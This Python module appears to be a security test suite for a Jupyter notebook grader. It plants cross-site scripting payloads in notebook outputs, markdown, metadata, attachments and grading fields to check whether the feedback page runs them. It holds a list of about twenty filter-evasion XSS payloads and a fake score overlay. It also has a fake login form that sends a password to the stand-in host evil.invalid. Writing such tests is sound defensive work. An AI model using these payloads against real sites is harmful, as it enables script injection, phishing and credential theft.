"""Script that would run in the browser of whoever reads the feedback."""

from __future__ import annotations

import base64
from typing import Any

from ..attack import Attack, Notebook, code, known, markdown, tests

_FAMILY = "script for the reader"
RUN = "window.hostile='run';document.title='hostile'"
_IMG = f'<img src=x onerror="{RUN}">'
_IMG_TEXT = f"&lt;img src=1 onerror={RUN}&gt;"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

_HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src=data:text/javascript,{RUN}></sCrIpT>",
    _IMG,
    f"<svg onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG_TEXT}'>",
    f"<noscript><p title='</noscript>{_IMG}'></noscript>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "<style>@import 'data:text/css,x'</style><link rel=stylesheet href='data:text/css,x'>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object><embed src=x>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><base href='//evil.invalid/'>",
    f"<p style='animation-name:x' onanimationstart={RUN}>x</p>",
    f"</pre></div></body></html><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template><x-y onclick={RUN}>",
    f"<a href='java\tscript:{RUN}' autofocus>x</a><a href='JaVaScRiPt:{RUN}'>y</a>",
    f"<img src=x\x00 onerror={RUN}><img/src=x/onerror={RUN}>",
    f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
]


def _shows(name: str, tries: str, kind: str, values: list[Any]) -> Attack:
    cell = f"""
from IPython.display import display
for value in {values!r}:
    display({{"{kind}": value, "text/plain": "x"}}, raw=True)
"""
    return Attack(name, _FAMILY, tries, cell)


def _adds(name: str, tries: str, *sources: str) -> Attack:
    def mangle(notebook: Notebook) -> None:
        for number, source in enumerate(sources):
            cell = markdown(source)
            cell["id"] = f"text-{number}"
            notebook["cells"].append(cell)

    return Attack(name, _FAMILY, tries, mangle=mangle)


def _attachments(notebook: Notebook) -> None:
    svg = base64.b64encode(_SVG.encode()).decode()
    cell = markdown(
        f"![x](attachment:a.svg) ![y](attachment:b'{_IMG})",
        attachments={"a.svg": {"image/svg+xml": svg}, f"b'{_IMG}": {"text/html": _IMG}},
    )
    notebook["cells"].append(cell)


def _raw_cells(notebook: Notebook) -> None:
    for mime in ("text/html", "text/markdown", "application/javascript"):
        notebook["cells"].append(
            {
                "cell_type": "raw",
                "id": f"raw-{len(notebook['cells'])}",
                "metadata": {"raw_mimetype": mime, "format": mime},
                "source": "\n".join(_HTML),
            }
        )


def _metadata(notebook: Notebook) -> None:
    notebook["metadata"]["title"] = f"</title><script>{RUN}</script>"
    notebook["metadata"]["authors"] = [{"name": _IMG}]
    notebook["metadata"]["language_info"] = {"name": f"'><script>{RUN}</script>"}
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": f"</script>{_IMG}"}
    }
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"] |= {"tags": [_IMG], "name": _IMG, "slideshow": {"slide_type": _IMG}}
        cell["id"] = f"'><script>{number}"


def _grade_ids(notebook: Notebook) -> None:
    for number, cell in enumerate(tests(notebook)[:2]):
        twin = code(f"# {_IMG}")
        twin["id"] = f"twin-{number}"
        twin["metadata"]["nbgrader"] = known(cell) | {
            "grade_id": f"'><script>{RUN}</script>",
            "points": _IMG,
            "comment": _IMG,
        }
        notebook["cells"].append(twin)


ATTACKS = [
    _shows("html", "HTML outputs in twenty shapes", "text/html", _HTML),
    _shows(
        "html-output-lists",
        "HTML outputs as lists of lines",
        "text/html",
        [[part[:7], part[7:]] for part in _HTML],
    ),
    _shows("markdown-output", "Markdown outputs with the same", "text/markdown", _HTML),
    _shows(
        "latex-output",
        "LaTeX outputs with HTML and \\href in them",
        "text/latex",
        [
            rf"$\href{{javascript:{RUN}}}{{x}}$",
            f"$$</script>{_IMG}$$",
            rf"$\unicode{{<img src=x onerror={RUN}>}}$",
        ],
    ),
    _shows("svg-output", "SVG outputs with scripts", "image/svg+xml", [_SVG, f"]]>{_SVG}"]),
    _shows("javascript-output", "JavaScript outputs", "application/javascript", [RUN]),
    _shows(
        "png-output",
        "a PNG that closes its attribute",
        "image/png",
        [f'AAAA" onerror="{RUN}', f"'/>{_IMG}"],
    ),
    _shows(
        "widget-output",
        "widget views and other mime types",
        "application/vnd.jupyter.widget-view+json",
        [{"model_id": f"</script>{_IMG}", "version_major": 2}],
    ),
    Attack(
        "plain-output",
        _FAMILY,
        "plain text, streams and escape sequences with HTML in them",
        f"""
import sys
for text in {_HTML!r}:
    print(text)
    print("\\x1b[31;4;38;2;1;2;3m" + text + "\\x1b]8;;javascript:{RUN}\\x07link")
{_IMG!r}
""",
    ),
    Attack(
        "image-metadata",
        _FAMILY,
        "sizes and alternative texts of images that close their attributes",
        f"""
from IPython.display import display
png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
       "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
for attack in ('"><script>{RUN}</script>', "x' onload={RUN} '"):
    told = {{"image/png": {{"width": attack, "height": attack, "alt": attack}}}}
    display({{"image/png": png}}, metadata=told, raw=True)
""",
    ),
    Attack(
        "exception-text",
        _FAMILY,
        "exceptions whose names, texts and tracebacks are HTML",
        f"""
name = "</pre><script>{RUN}</script>"
raise type(name, (Exception,), {{}})({_IMG!r})
""",
        answers={
            "squares": f"def squares(k):\n    raise type('</pre>', (Exception,), {{}})({_IMG!r})"
        },
    ),
    Attack(
        "answers-in-the-report",
        _FAMILY,
        "answers and prints that the report of a check repeats",
        answers={
            "verdict": f"def verdict(error, *, has_kinks=False):\n    print({_IMG!r})\n"
            f"    return {_HTML[0]!r}",
            "softmax_loss": f"def softmax_loss(W, X, y, reg):\n    return {{ {_IMG!r}: 1 }}, 0",
            "forward_difference": "def forward_difference(f, x, h=1e-5):\n"
            f"    import warnings\n    warnings.warn({_IMG!r})\n    raise ValueError({_IMG!r})",
        },
    ),
    Attack(
        "source-text",
        _FAMILY,
        "code whose source, comments and strings are HTML",
        "\n".join(f"# {line}" for line in _HTML) + f"\nx = '''</script>{_IMG}'''",
    ),
    _adds("markdown-cells", "Markdown cells with HTML in twenty shapes", *_HTML),
    _adds(
        "markdown-links",
        "Markdown links and images with addresses that run",
        f"[x](javascript:{RUN}) [y](data:text/html,<script>{RUN}</script>) <javascript:{RUN}>",
        f'![x](x "\'onerror={RUN}") ![y](javascript:{RUN}) [z]: javascript:{RUN}\n[z]',
        f"[x](vbscript:x) [y](&#106;avascript:{RUN}) [w](\x01javascript:{RUN})",
        f"```html\n</code></pre><script>{RUN}</script>\n```\n\n~~~'><script>{RUN}</script>\n~~~",
    ),
    _adds(
        "markdown-mathematics",
        "mathematics in Markdown that closes and opens elements",
        f"$</script>{_IMG}$ $$\\begin{{x}}{_IMG}\\end{{x}}$$",
        rf"\(\href{{javascript:{RUN}}}{{click}}\) $\style{{x}}{{y}}$ $\class{{{_IMG}}}{{y}}$",
        rf"$\require{{html}}\cssId{{x}}{{y}}$ $\data{{onload={RUN}}}{{x}}$",
    ),
    Attack(
        "attachments",
        _FAMILY,
        "attachments with script, and names that close attributes",
        mangle=_attachments,
    ),
    Attack("raw-cells", _FAMILY, "raw cells that claim to be HTML", mangle=_raw_cells),
    Attack("metadata", _FAMILY, "titles, tags, names and widgets with HTML", mangle=_metadata),
    Attack("grade-ids", _FAMILY, "ids and points with HTML", mangle=_grade_ids),
    Attack(
        "page-furniture",
        _FAMILY,
        "outputs that look like the page's own score and cover it",
        """
from IPython.display import HTML, display
display(HTML('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
             'background:white"><h1>Score: @MAX@ / @MAX@</h1></div>'))
display(HTML('<form action="https://evil.invalid"><input name=password><button>Log in</button>'))
display(HTML('<img src="https://evil.invalid/x.png"><link rel=prefetch href=//evil.invalid>'))
""",
    ),
]
